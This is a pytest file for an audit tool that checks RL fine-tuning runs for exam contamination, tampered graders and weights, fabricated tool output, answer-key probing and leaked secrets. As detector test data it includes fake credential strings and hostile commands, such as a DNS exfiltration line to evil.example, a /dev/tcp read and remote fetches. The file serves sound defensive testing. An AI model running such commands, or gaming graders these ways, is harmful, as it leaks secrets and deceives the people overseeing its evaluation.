"""The audit: each rule finds what was planted for it, and lets honest work pass."""

from __future__ import annotations

import json
import random
import shutil
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from helpers import attempt, lines, run_cli
from hypothesis import given, settings
from hypothesis import strategies as st
from safetensors.numpy import load_file, save_file

from antaeus import api
from antaeus.errors import UserError
from antaeus.guard import seals as sealing
from antaeus.guard.audit import audit, log_hashes
from antaeus.guard.claims import claims, unbacked
from antaeus.guard.descent import descends, distances, weights_hash
from antaeus.guard.findings import Finding, several, worst_first
from antaeus.guard.leaks import SECRETS, clients, leaks
from antaeus.guard.overlap import Fence, overlaps
from antaeus.guard.queries import probing, reopened
from antaeus.guard.seals import broken, seals
from antaeus.paraphrase import Paraphrases
from antaeus.propose.builtin import builtin
from antaeus.propose.sets import load
from antaeus.types import Anchor, Exam, Group, Practice, SealBroken, Vault, to_json


def rules(findings, severity="fatal"):
    return {f.rule for f in findings if f.severity == severity}


def test_findings_are_json_and_sorted():
    a, b = Finding("r", "note", "fine", "x"), Finding("r", "fatal", "bad")
    assert worst_first([a, b, a]) == [b, a]
    assert json.loads(to_json(b)) == {"rule": "r", "severity": "fatal", "sentence": "bad", "where": ""}
    many = several("r", "note", ((str(i), "") for i in range(9)), most=3)
    assert len(many) == 4 and many[-1].sentence.startswith("6 more")


# --- contamination: verbatim, renumbered, in other words

TRAIN = (
    "A train leaves the harbour with 48 passengers. At the first station 15 people get off and 22 get on. How many are on it now?"
)
FENCE = "Maria paints a fence of 36 boards. She needs 5 minutes for each board and rests 20 minutes at noon. How long does it take her?"
TEA = "A shop sells tea for $14 a box. Ahmed buys 6 boxes and pays with a note of $100. How much money does he get back?"
REWORDED = {
    TRAIN: "There are 48 passengers on a train as it leaves the harbour. 22 people get on and 15 get off at its first station. "
    "What is the number of passengers on the train then?",
    FENCE: "To paint a fence, Maria works 5 minutes on each of its 36 boards, with a rest of 20 minutes at noon. How long is she busy?",
    TEA: "Ahmed pays for 6 boxes of tea with a $100 note. If the shop sells a box of tea for $14, how much money is returned to him?",
}
HELD = [Exam("train", TRAIN), Exam("fence", FENCE), Anchor("tea", TEA), Exam("sum", "34 + 57 ="), Exam("minus", "91 - 20 =")]


@pytest.mark.parametrize("task", HELD[:3], ids=lambda t: t.id)
def test_the_fence_stops_a_task_in_other_words(task):
    planted = Practice("p", REWORDED[task.prompt])
    with pytest.raises(SealBroken, match=f"'{task.id}'.*other words"):
        Fence(HELD).check([planted])
    assert overlaps([planted], HELD) == [("p", task.id)]


@pytest.mark.parametrize(
    ("text", "theirs"),
    [
        ("What do you get when 34 is added to 57?", "sum"),
        ("the sum of 57 and 34", "sum"),
        ("Compute 34 + 57", "sum"),
        ("Subtract 20 from 91.", "minus"),
        ("What is ninety one plus 20?", None),
        ("What do you get when 34 is multiplied by 57?", None),
        ("What do you get when 34 is added to 58?", None),
        ("34 + 58 =", None),
        ("57 + 34 =", None),
        ("34 - 57 =", None),
        ("Tom keeps 34 hens and 57 ducks. How many birds are there?", None),
        (FENCE.replace("36", "40"), None),
        (REWORDED[FENCE].replace("36", "40"), None),
        ("A band of 48 people plays 15 songs at 22 concerts. How many songs is that?", None),
        ("A train has 9 coaches with 60 seats each. 400 people sit in it. How many seats are free?", None),
    ],
)
def test_numbers_are_kept(text, theirs):
    hit = Fence(HELD).hit(text)
    assert (hit and hit[0]) == theirs


def test_planted_rewordings_are_told_from_other_problems():
    """Held-out word problems on one side; on the other the same in other words, and as many new ones of the same kinds."""
    others = [
        "A bus leaves the airport with 31 passengers. At the hotel 15 people get off and nobody gets on. How many are left?",
        "Maria paints 12 pictures. She needs 3 hours for each and sells them for $36. How much does she earn?",
        "A shop sells 14 kinds of tea. Ahmed tries 2 a week. After how many weeks has he tried them all?",
        "A field of 36 rows has 20 plants in each row. 5 plants die. How many plants are left?",
    ]
    index = Paraphrases((t.id, t.prompt) for t in HELD)
    assert all(index.hit(text).sure for text in REWORDED.values())
    assert not any(index.hit(text) for text in others)
    assert (index.blind, index.alike) == (0, 0)


def test_a_suspicion_does_not_hide_what_is_sure(monkeypatch):
    monkeypatch.setattr("antaeus.paraphrase.ALIKE", 1.0)
    monkeypatch.setattr("antaeus.paraphrase.NEARER", 10.0)  # neighbours do not matter
    clear, told = (text.replace("$14", "some dollars") for text in (TEA, REWORDED[TEA]))
    vague = clear.replace("$100", "money")  # of one number: only ever suspected
    assert not Paraphrases([("vague", vague)]).hit(told).sure
    assert Paraphrases([("vague", vague), ("clear", clear)]).hit(told)[::2] == ("clear", True)


def test_a_renumbered_task_is_a_note():
    fence = Fence(HELD)
    fence.check([Practice("p", TRAIN.replace("48", "52")), Practice("q", "34 + 58 =")])
    (note,) = fence.findings()
    assert (note.severity, note.where) == ("note", "p") and "2 texts" in note.sentence and "'train'" in note.sentence


def test_questions_without_numbers_are_only_suspected():
    fence = Fence([Exam("tesla", "Where was the new media day event for the final game held?")])
    fence.check([Practice("p", "Where was media day for the final game held?"), Practice("q", "Who won the final game?")])
    (found,) = fence.findings()
    assert (found.severity, found.where) == ("warning", "p")


def test_variants_of_a_template_are_left_to_the_exact_rule():
    def legs(a, b, c):
        return f"How many legs are there in total if you have {a} cats, {b} {c} and a stool?"

    animals = ["dogs", "hens", "crabs", "spiders", "horses", "ants", "lions", "bees"]
    held = [Exam(f"{a}{b}{c}", legs(a, b, c)) for a in range(2, 6) for b in range(2, 6) for c in animals[:6]]
    fence = Fence(held)
    fence.check([Practice("new", legs(3, 4, animals[6])), Practice("newer", legs(5, 2, animals[7]))])
    assert any("96 of 96 held-out tasks resemble" in f.sentence for f in fence.findings())


def test_builtin_practice_passes():
    for name in ("add2", "sub2", "sum3"):
        with pytest.warns() if name == "sum3" else pytest.MonkeyPatch.context():
            tasks = builtin(name, 0)
        fence = Fence([*tasks.anchor, *tasks.exam])
        fence.check(tasks.practice)
        assert not [f for f in fence.findings() if f.severity != "note"]


@pytest.mark.parametrize(
    "text",
    [
        f"Here is a problem that I remember well. {REWORDED[TEA]} First I multiply. The answer is 16.",
        f"Let us begin.\n{TEA}\nHe gets back 16 dollars.",
    ],
)
def test_an_attempt_that_tells_a_held_out_task_is_tainted(text):
    task = Practice("p", "Invent a problem.")
    group = Group(task, (replace(attempt("16", 0, task="p"), text=text), attempt("16", 1, task="p")))
    assert list(Fence(HELD).tainted([group])) == [("p", 0)]


@pytest.mark.parametrize(
    "text", [" 91", "34 + 57 = 91, so 134 + 157 = 291.", "He pays 6 times 14 dollars, 84 in all, and has $100. So 16."]
)
def test_ordinary_work_is_not_tainted(text):
    assert Fence(HELD).given_away(text) is None


def test_without_word_vectors_the_fence_says_so(monkeypatch):
    monkeypatch.setattr("antaeus.vectors.importlib.util.find_spec", lambda name: None)
    fence = Fence(HELD)
    fence.check([Practice("p", REWORDED[TEA])])
    (found,) = fence.findings()
    assert found.severity == "warning" and "antaeus[audit]" in found.sentence
    assert rules(fence.findings(blind="fatal")) == {"contamination"}
    assert fence.hit("What do you get when 34 is added to 57?") and fence.hit(TEA)  # what needs no vectors still works
    assert Fence(HELD[3:]).findings() == []  # nothing to reword


def test_a_practice_file_is_freed_of_rewordings(tmp_path):
    rows = [{"prompt": p, "answer": "1"} for p in REWORDED]
    (tmp_path / "exam.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    (tmp_path / "mine.jsonl").write_text(json.dumps({"prompt": REWORDED[TEA]}) + "\n" + json.dumps({"prompt": "Say 4."}) + "\n")
    with pytest.raises(UserError, match="1 practice tasks of .*mine.jsonl also stand in the exam"):
        load("add2", seed=0, practice=str(tmp_path / "mine.jsonl"), exam=str(tmp_path / "exam.jsonl"))


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=120))
def test_any_text_passes_through_the_fence(text):
    fence = Fence([*HELD, Exam("any", text)])
    assert fence.hit(text)[0] == "any" or fence.hit(text) is not None
    fence.given_away(text)
    fence.hit(text[::-1])


# --- seals


@pytest.fixture(scope="module")
def add2():
    return builtin("add2", 0, 8, 8, 8)


def test_equal_runs_have_equal_seals(add2):
    before = seals(add2, {"chat": "{{ x }}"})
    assert broken(before, seals(builtin("add2", 0, 8, 8, 8), {"chat": "{{ x }}"})) == []
    assert {
        "grader/answers/equivalence.py",
        "grader/verify/ground.py",
        "grader/gym.py",
        "package/sympy",
        "answers/exam",
    } <= before.keys()


def test_every_kind_of_change_breaks_a_seal(add2):
    before = seals(add2, {"chat": "{{ x }}"})
    other = replace(add2.exam[0], prompt="1 + 1 =")
    exam = Vault(Exam, {t.id: "7" for t in add2.exam})
    changed = {
        "tasks/exam": replace(
            add2, exam=(other, *add2.exam[1:]), exam_vault=Vault(Exam, {t.id: "5" for t in [other, *add2.exam]})
        ),
        "answers/exam": replace(add2, exam_vault=exam),
        "template/shots": replace(add2, exam=tuple(replace(t, shots="1 + 1 = 3\n") for t in add2.exam)),
        "reading": replace(add2, max_tokens=4),
    }
    for name, tasks in changed.items():
        found = broken(before, seals(tasks, {"chat": "{{ x }}"}))
        assert name in {f.where for f in found} and rules(found) == {"seals"}
    assert [f.where for f in broken(before, seals(add2, {"chat": "{{ y }}"}))] == ["template/chat"]
    assert [f.where for f in broken(before, seals(add2))] == ["template/chat"]


def test_an_edited_grader_is_found(add2, tmp_path, monkeypatch):
    import antaeus

    before = seals(add2)
    copy = tmp_path / "antaeus"
    shutil.copytree(Path(antaeus.__file__).parent, copy, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(sealing, "ROOT", copy)
    assert broken(before, seals(add2)) == []
    grader = copy / "verify" / "ground.py"
    grader.write_text(grader.read_text().replace("float(right)", "1.0"))
    (copy / "answers" / "extra.py").write_text("")
    assert [f.where for f in broken(before, seals(add2))] == ["grader/answers/extra.py", "grader/verify/ground.py"]
    monkeypatch.setattr(sealing, "distribution", lambda name: (_ for _ in ()).throw(sealing.PackageNotFoundError))
    assert "package/math-verify" in {f.where for f in broken(before, seals(add2))}


def test_without_seals_nothing_is_sealed(add2):
    assert rules(broken({}, seals(add2))) == rules(broken(seals(add2), {})) == {"seals"}


def test_a_seal_shows_no_single_answer(add2):
    one = replace(add2, exam_vault=Vault(Exam, {t.id: "7" for t in add2.exam[:1]}))
    other = replace(add2, exam_vault=Vault(Exam, {t.id: "8" for t in add2.exam[:1]}))
    values = [value for name, value in seals(one).items() if name.startswith("answers")]
    assert len(values) == 3 and len(set(values)) == 3  # one for all answers of a part
    assert seals(one)["answers/exam"] != seals(other)["answers/exam"]


# --- weights


def altered(folder, to, change, config=None):
    """A copy of a model folder with `change(name, tensor)` in place of each tensor."""
    shutil.copytree(folder, to)
    path = to / "model.safetensors"
    save_file({name: change(name, value).astype(value.dtype) for name, value in load_file(path).items()}, path, {"format": "pt"})
    if config:
        (to / "config.json").write_text(json.dumps(json.loads((to / "config.json").read_text()) | config))
    return to


RNG = np.random.default_rng(0)


def trained(name, w):
    return w + RNG.uniform(-3e-4, 3e-4, w.shape)


def low_rank(name, w):
    return (
        w
        if w.ndim < 2
        else w
        + 0.3 * np.linalg.norm(w) * (m := np.outer(RNG.normal(size=len(w)), RNG.normal(size=w.shape[1]))) / np.linalg.norm(m)
    )


def test_an_honest_fine_tune_passes(tiny_folder, tmp_path):
    assert descends(tiny_folder, tiny_folder, 0.0) == []
    fine = altered(tiny_folder, tmp_path / "fine", trained)
    assert descends(fine, tiny_folder, rates=1e-4) == []
    assert max(far for far, _ in distances(fine, tiny_folder).values()) < 0.05
    assert descends(altered(tiny_folder, tmp_path / "merged", low_rank), tiny_folder) == []
    saved_by_another_version = {"transformers_version": "9.9", "dtype": "bfloat16", "some_new_key": 1}
    assert descends(altered(tiny_folder, tmp_path / "saved", trained, saved_by_another_version), tiny_folder) == []


@pytest.mark.parametrize(
    ("change", "config", "says"),
    [
        (lambda name, w: RNG.normal(0, w.std(), w.shape) if w.ndim > 1 else w, None, "not those of the base"),
        (lambda name, w: RNG.permutation(w) if w.ndim > 1 else w, None, "not those of the base"),
        (lambda name, w: RNG.permutation(w) if "layers.1.mlp.up" in name else w, None, "1 of 20 tensors"),
        (lambda name, w: w * np.nan if "layers.1.mlp.up" in name else w, None, "not finite"),
        (trained, {"architectures": ["Qwen2ForCausalLM"]}, "its architectures is"),
        (trained, {"model_type": "qwen2"}, "its model_type is"),
        (trained, {"num_attention_heads": 2}, "another architecture"),
    ],
)
def test_another_model_is_caught(tiny_folder, tmp_path, change, config, says):
    found = descends(altered(tiny_folder, tmp_path / "other", change, config), tiny_folder)
    assert rules(found) == {"weights"} and any(says in f.sentence for f in found)


def test_a_sibling_is_caught_by_how_far_a_weight_can_have_come(tiny_folder, tmp_path):
    sibling = altered(tiny_folder, tmp_path / "sibling", lambda name, w: w + RNG.uniform(-3e-3, 3e-3, w.shape))
    assert descends(sibling, tiny_folder) == []
    assert "moved by" in descends(sibling, tiny_folder, rates=3e-4)[0].sentence


def test_another_tokenizer_or_template_is_caught(tiny_folder, tmp_path):
    words = altered(tiny_folder, tmp_path / "words", trained)
    text = (words / "tokenizer.json").read_text()
    (words / "tokenizer.json").write_text(text.replace('"a"', '"\u00e5"', 1))
    (words / "chat_template.jinja").write_text("{{ messages }}")
    assert {f.where for f in descends(words, tiny_folder)} == {"tokenizer.json", "chat_template.jinja"}


@pytest.mark.parametrize("lost", ["model.safetensors", "tokenizer.json", "config.json"])
def test_missing_evidence_of_descent_is_fatal(tiny_folder, tmp_path, lost):
    folder = altered(tiny_folder, tmp_path / "m", trained)
    (folder / lost).unlink()
    assert rules(descends(folder, tiny_folder)) == {"weights"}
    (folder / lost).write_bytes(b"\xff" * 20)
    assert rules(descends(folder, tiny_folder)) == {"weights"}


@pytest.mark.parametrize(("size", "fits", "ok"), [(1e-2, True, True), (9.0, True, False), (1e-2, False, False)])
def test_adapters(tiny_folder, tmp_path, size, fits, ok):
    name = "base_model.model.model.layers.0.self_attn.q_proj" if fits else "base_model.model.model.layers.7.self_attn.q_proj"
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "adapter_config.json").write_text(json.dumps({"r": 4, "lora_alpha": 8, "base_model_name_or_path": "tiny"}))
    halves = {f"{name}.lora_A.weight": RNG.normal(0, size, (4, 64)), f"{name}.lora_B.weight": RNG.normal(0, 1, (64, 4))}
    save_file({k: v.astype(np.float32) for k, v in halves.items()}, tmp_path / "a" / "adapter_model.safetensors")
    assert (descends(tmp_path / "a", tiny_folder) == []) is ok


def test_bfloat16_is_read_as_it_is(tmp_path):
    import torch
    from safetensors.torch import save_file as save

    from antaeus.guard.descent import _read, tensors

    values = torch.randn(5, 7).bfloat16()
    save({"w": values}, tmp_path / "model.safetensors")
    assert (_read(tensors(tmp_path)["w"]) == values.float().numpy()).all()


# --- secrets and network clients

KEYS = {
    "a private key": "-----BEGIN RSA PRIVATE KEY-----\nMIIE",
    "an AWS access key": "AKIA" + "ABCDEFGHIJKLMNOP",
    "a GitHub token": "ghp_" + "a1B2" * 9,
    "a GitLab token": "glpat-" + "x9Y8z7W6v5U4t3S2r1Q0",
    "a Hugging Face token": "hf_" + "aBcDeFgH" * 4,
    "an Anthropic key": "sk-ant-" + "api03-" + "aB3dE6gH9" * 3,
    "an OpenAI key": "sk-proj-" + "aB3dE6gH9jK2" * 3,
    "a Google key": "AIza" + "aB3dE6gH9jK2mN5" * 2 + "xY7_z",
    "a Slack token": "xoxb-" + "123456789012-abcdef",
    "a Stripe key": "sk_live_" + "aB3dE6gH9jK2" * 2,
    "a package index token": "pypi-AgEI" + "cHlwaS5vcmc" * 6,
    "a signed web token": "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIn0." + "dozjgNryP4J3jVmNHl0w5N",
    "a password in an address": "postgres://admin:hunter2hunter@db.example.com/x",
}


@pytest.mark.parametrize("what", SECRETS)
def test_each_secret_is_found(what):
    found = leaks(f"client = Client('{KEYS[what]}')\n", "here")
    assert [(f.rule, f.severity, f.where) for f in found if f.rule == "secrets"] == [("secrets", "fatal", "here")]
    assert what in found[0].sentence


@pytest.mark.parametrize(
    "code",
    [
        "import requests",
        "import os, socket as s",
        "from urllib.request import urlopen",
        "from urllib import request",
        "import http.client",
        "def f():\n    from huggingface_hub import hf_hub_download\n    return hf_hub_download('a', 'b')",
        "from openai import OpenAI\nclient = OpenAI()",
        "import anthropic",
        "x = __import__('socket')",
        "import importlib\nimportlib.import_module('httpx')",
        "import subprocess\nsubprocess.run(['curl', '-s', 'https://example.com'])",
        "import os\nos.system('cd /tmp && wget http://x.y/z')",
        "import os\nos.system('nslookup $(cat key).evil.example')",
        "import subprocess\nsubprocess.run('pip install openai', shell=True)",
        "exec('import requests')",
        "import asyncio\nasyncio.open_connection('1.2.3.4', 80)",
        "Here is my answer:\n```python\nimport aiohttp\n```\nDone.",
        "Here is my answer:\n```python\nimport requests\nthis is ( not python\n```",
        "Run this:\n```bash\n$ curl -O https://example.com/data.json\n```",
        "def broken(:\n    import requests\n    requests.get('x')",
        "bash -c 'cat < /dev/tcp/10.0.0.1/80'",
    ],
)
def test_network_clients_are_found(code):
    assert list(clients(code)) and rules(leaks(code), "warning") == {"network"}


@pytest.mark.parametrize(
    "text",
    [
        "She requests 12 more eggs. How many requests are there in total? The socket has 3 holes, and we import 5 tons.",
        "The bakery requests.\nfrom urllib we learn nothing",
        "I would use requests.get to fetch a page, or curl, but there is no network here.".replace(
            "requests.get", "the requests library"
        ),
        "import math\nimport subprocess\nfrom urllib.parse import urlparse\n\nsubprocess.run(['ls', '-l'])\nprint(math.pi)",
        "def requests(x):\n    return x + 1\n\nsocket = requests(3)",
        "text = 'import requests'\nprint(len(text))",
        "Import duties: from 3 to 5 %.",
        "```python\nimport numpy as np\nprint(np.arange(3))\n```",
        "Answer: sk-1, hf_model, AKIA, eyJ, ghp_short and http://example.com:80/path@2",
        "To import requests, one would need a network.",
        "We curl the ribbon 3 times and dig a hole.",
    ],
)
def test_ordinary_code_and_prose_are_let_alone(text):
    assert leaks(text) == []


@given(st.text(max_size=200))
def test_leaks_and_claims_never_raise(text):
    leaks(text)
    claims(text)


# --- claimed tool output

REAL = {"a": ["12 passed in 0.31s", "[1, 2, 3]\n"], "b": ["3 failed, 9 passed in 0.4s"]}


@pytest.mark.parametrize(
    "text",
    [
        "Tests passed: 12/12",
        "The suite says 12/12 tests passed.",
        "All tests passed!",
        "I ran it.\n```output\n[1, 2,   3]\n```",
        "<tool_response>[1, 2, 3]</tool_response>",
        "I have not run anything. The tests should pass, I think. ```python\nprint(1)\n```",
    ],
)
def test_claims_that_the_log_holds_pass(text):
    assert unbacked([("a", text)], REAL) == []


@pytest.mark.parametrize(
    "text",
    [
        "Tests passed: 13/13",
        "Ran 12 tests in 0.1s\n\nOK\n99 passed in 0.2s",
        "```output\n[1, 2, 4]\n```",
        "<tool_response>\n{'score': 1.0}\n</tool_response>",
        "<tool_response>\n{'score': 1.0}",
        "```stdout\nall good\n```",
    ],
)
def test_a_fake_tool_log_is_found(text):
    (*_, last) = unbacked([("a", text)], REAL)
    assert (last.rule, last.severity, last.where) == ("tool-output", "fatal", "a")


def test_claims_without_calls_or_without_a_log_fail():
    assert "no tool was called" in unbacked([("c", "All tests passed")], REAL)[0].sentence
    assert "no log" in unbacked([("a", "All tests passed")], None)[0].sentence
    assert rules(unbacked([("b", "All tests passed"), ("b", "12 passed in 0.4s")], REAL)) == {"tool-output"}
    assert unbacked([("a", "The answer is 4.")], None) == []


# --- queries, sittings


def answers(wrong=(), n=100):
    return {f"t{i}": "b" if i in wrong else "a" for i in range(n)}


def test_single_flips_are_found():
    assert rules(probing([answers(), *(answers([i]) for i in range(3))])) == {"queries"}


def test_bisection_is_found():
    log = [answers(), answers(range(50)), answers(range(25)), answers(range(12))]
    assert any("halve a block" in f.sentence for f in probing(log))
    tiles = [answers(), *(answers(range(i, i + 20)) for i in range(0, 100, 20))]
    assert any("blocks of equal size" in f.sentence for f in probing(tiles))


def test_a_sweep_of_near_copies_is_found():
    rng = random.Random(0)
    assert any("at most 5%" in f.sentence for f in probing([answers(), *(answers(rng.sample(range(100), 4)) for _ in range(8))]))


def test_many_scores_tell_the_key():
    rng = random.Random(0)
    assert rules(probing([answers(rng.sample(range(100), 40)) for _ in range(16)]), "warning") == {"queries"}


@pytest.mark.parametrize("seed", range(20))
def test_honest_submissions_pass(seed):
    """Six versions of one model, each with other answers to a fifth to a half of the questions; two corrections; one repetition."""
    rng = random.Random(seed)
    log = [answers(rng.sample(range(100), rng.randint(20, 50))) for _ in range(6)]
    fixed = {**log[-1], "t3": "c"}
    assert probing([*log, log[-1], fixed, {**fixed, "t9": "c"}]) == []
    assert probing([]) == probing([answers()]) == []


def test_no_log_of_queries_is_fatal():
    assert rules(probing(None)) == {"queries"}


def test_one_sitting_each():
    assert reopened(["base", "r002", "r004"]) == []
    assert [f.where for f in reopened(["base", "r002", "r002"])] == ["r002"]
    assert rules(reopened(None)) == {"exam"}


# --- a whole run


@pytest.fixture(scope="module")
def finished(tiny_folder, tmp_path_factory):
    """A run of the tiny model, with seals and hashes."""
    path = tmp_path_factory.mktemp("audited") / "run"
    how = {
        "model": str(tiny_folder),
        "tasks": "add3",
        "n_practice": 12,
        "n_anchor": 8,
        "n_exam": 12,
        "anchor_every": 1,
        "dtype": "float32",
    }
    api.run("rlvr", run_dir=path, rounds=3, prompts=4, samples=4, lr=1e-3, control="format", on_alarm="note", **how)
    tasks = load("add3", seed=0, n_practice=12, n_anchor=8, n_exam=12)
    before = seals(tasks)
    kept = [{"id": "base", "sha256": weights_hash(tiny_folder)}]
    kept += [{"id": folder.name, "sha256": weights_hash(folder)} for folder in (path / "versions").glob("r*")]
    (path / "versions" / "sha256.jsonl").write_text("".join(json.dumps(line) + "\n" for line in kept))
    (path / "seals.json").write_text(json.dumps({"start": before, "end": seals(tasks), "logs": log_hashes(path)}))
    return path


@pytest.fixture
def copied(finished, tmp_path):
    """A copy to doctor."""
    return Path(shutil.copytree(finished, tmp_path / "run"))


def rewrite(path, change):
    """Replace each record of a log by `change(record)`, dropping those it gives None for, and mend the hashes of the logs."""
    kept = [new for line in lines(path) if (new := change(line)) is not None]
    path.write_text("".join(json.dumps(line) + "\n" for line in kept))
    run = path.parent if (path.parent / "config.toml").exists() else path.parent.parent
    sealed = json.loads((run / "seals.json").read_text())
    (run / "seals.json").write_text(json.dumps(sealed | {"logs": log_hashes(run)}))


def test_an_honest_run_has_no_fatal_finding(finished, tiny_folder, capsys, monkeypatch):
    assert rules(audit(finished, tiny_folder)) == set()
    assert rules(api.audit(finished)) == set()
    code, out, _ = run_cli(capsys, monkeypatch, "audit", finished, "--json")
    assert code == 0 and all(f["severity"] != "fatal" for f in json.loads(out)["findings"])


def test_the_command_line_says_what_is_fatal(copied, capsys, monkeypatch):
    (copied / "seals.json").unlink()
    code, out, _ = run_cli(capsys, monkeypatch, "audit", copied)
    assert code == 1 and "fatal" in out and "seals.json" in out
    assert run_cli(capsys, monkeypatch, "audit", copied / "nowhere")[0] == 2
    (copied / "summary.json").unlink()
    code, _, err = run_cli(capsys, monkeypatch, "audit", copied)
    assert code == 2 and "not finished" in err


def flip_exam(line):
    if line["set"] == "exam" and line["version"] != "base":
        line["attempts"][0]["verdict"]["score"] = 1.0
    return line


def promote(run):
    for name in ("decisions.jsonl", "summary.json"):
        record = json.loads((run / name).read_text())
        changed = (
            {"action": "promote", "version": "r003"}
            if name == "decisions.jsonl"
            else {"decision": "promote", "promoted_version": "r003"}
        )
        (run / name).write_text(json.dumps(record | changed) + "\n")


def first_practice(**change):
    done = []

    def edit(line):
        if line["set"] == "practice" and not done:
            done.append(line)
            line["attempts"][0] |= change
        return line

    return edit


def practise_on_the_exam(line, prompt=None):
    if line["set"] == "practice" and line["round"] == 1:
        line["task"]["prompt"] = prompt
    return line


DOCTORED = {
    "exam verdicts": (lambda run: rewrite(run / "attempts.jsonl", flip_exam), "decision"),
    "the decision": (promote, "decision"),
    "the evidence": (
        lambda run: rewrite(run / "decisions.jsonl", lambda d: d | {"evidence": d["evidence"] | {"wins": 11}}),
        "decision",
    ),
    "no decision": (lambda run: (run / "decisions.jsonl").write_text(""), "decision"),
    "a dropped group": (
        lambda run: rewrite(run / "attempts.jsonl", lambda a: None if (a["set"], a["round"]) == ("practice", 2) else a),
        "log",
    ),
    "a dropped round": (lambda run: rewrite(run / "events.jsonl", lambda e: None if e["round"] == 2 else e), "log"),
    "anchors": (
        lambda run: rewrite(run / "events.jsonl", lambda e: e | {"anchor": {**e["anchor"], "correct": 7}}),
        "log",
    ),
    "a truncated log": (lambda run: (run / "attempts.jsonl").write_bytes((run / "attempts.jsonl").read_bytes()[:-40]), "log"),
    "an edited text": (
        lambda run: (run / "attempts.jsonl").write_text((run / "attempts.jsonl").read_text().replace('"text": "', '"text": "z', 1)),
        "log",
    ),
    "no log": (lambda run: (run / "events.jsonl").unlink(), "log"),
    "no hashes": (lambda run: (run / "versions" / "sha256.jsonl").unlink(), "weights"),
    "exam sat twice": (
        lambda run: rewrite(run / "attempts.jsonl", lambda a: a) or repeat_exam(run),
        "exam",
    ),
    "practised on the exam": (
        lambda run: rewrite(run / "attempts.jsonl", lambda a: practise_on_the_exam(a, exam_prompt(run))),
        "contamination",
    ),
    "practised on the exam in other words": (
        lambda run: rewrite(run / "attempts.jsonl", lambda a: practise_on_the_exam(a, in_words(exam_prompt(run)))),
        "contamination",
    ),
    "an unbacked claim": (lambda run: rewrite(run / "attempts.jsonl", first_practice(text="All tests passed")), "tool-output"),
    "a secret": (lambda run: rewrite(run / "attempts.jsonl", first_practice(text="AKIA" + "ABCDEFGHIJKLMNOP")), "secrets"),
    "a lost parent": (
        lambda run: rewrite(run / "versions" / "lineage.jsonl", lambda v: v | {"parent": "r999"} if v["parent"] else v),
        "lineage",
    ),
    "an unknown version": (lambda run: shutil.copytree(last(run), run / "versions" / "r777"), "weights"),
    "other weights": (lambda run: disturb(last(run), 1e-4), "weights"),
    "an edited grader": (lambda run: reseal(run, "grader/verify/ground.py"), "seals"),
    "an edited exam": (lambda run: reseal(run, "tasks/exam"), "seals"),
    "nonsense": (lambda run: rewrite(run / "attempts.jsonl", lambda a: {"set": a["set"]}), "log"),
    "probing": (
        lambda run: (run / "queries.jsonl").write_text(
            "".join(json.dumps({"answers": answers([i])}) + "\n" for i in range(8))
        ),
        "queries",
    ),
}  # fmt: skip


def exam_prompt(run):
    return next(a["task"]["prompt"] for a in lines(run / "attempts.jsonl") if a["set"] == "exam")


def in_words(prompt):
    a, _, b, _ = prompt.split()
    return f"What do you get when {a} is added to {b}?"


def repeat_exam(run):
    again = [a for a in lines(run / "attempts.jsonl") if a["set"] == "exam" and a["version"] == "base"]
    with (run / "attempts.jsonl").open("a") as out:
        out.writelines(json.dumps(a) + "\n" for a in again)


def last(run):
    return sorted((run / "versions").glob("r*"))[-1]


def disturb(folder, size):
    path = folder / "model.safetensors"
    save_file({k: v + np.float32(size) for k, v in load_file(path).items()}, path, {"format": "pt"})


def reseal(run, name):
    sealed = json.loads((run / "seals.json").read_text())
    sealed["end"][name] = "0" * 64
    (run / "seals.json").write_text(json.dumps(sealed))


@pytest.mark.parametrize("what", DOCTORED)
def test_a_doctored_run_is_found(copied, tiny_folder, what):
    doctor, rule = DOCTORED[what]
    doctor(copied)
    assert rule in rules(audit(copied, tiny_folder))


def test_another_model_in_a_version_is_found_even_with_its_hash(copied, tiny_folder):
    disturb(last(copied), 0.05)
    rewrite(
        copied / "versions" / "sha256.jsonl",
        lambda v: v | {"sha256": weights_hash(last(copied))} if v["id"] == last(copied).name else v,
    )
    assert any("moved by" in f.sentence for f in audit(copied, tiny_folder))


def test_what_is_missing_counts_against_the_run(copied, tiny_folder, monkeypatch):
    assert "weights" in rules(audit(copied, None))
    rewrite(
        copied / "attempts.jsonl",
        lambda a: {**a, "task": {**a["task"], "prompt": TEA + a["task"]["id"]}} if a["set"] == "exam" else a,
    )
    assert "contamination" not in rules(audit(copied, tiny_folder))
    monkeypatch.setattr("antaeus.vectors.importlib.util.find_spec", lambda name: None)
    assert "contamination" in rules(audit(copied, tiny_folder))


def test_what_changed_since_the_run(finished, tiny_folder):
    now = json.loads((finished / "seals.json").read_text())["end"]
    assert rules(audit(finished, tiny_folder, now)) == set()
    assert rules(audit(finished, tiny_folder, now | {"package/sympy": "9.9"}), "warning") == {"seals"}
    assert rules(audit(finished, tiny_folder, now | {"answers/exam": "0"})) == {"seals"}


def test_what_a_model_writes_may_hold_other_line_separators(tmp_path):
    from antaeus.guard.record import _lines

    file, said = tmp_path / "attempts.jsonl", {"text": "one\u2028two\x85three"}
    file.write_text(json.dumps(said, ensure_ascii=False) + "\n", encoding="utf-8")
    found = []
    assert _lines(file, found) == [said] and found == []
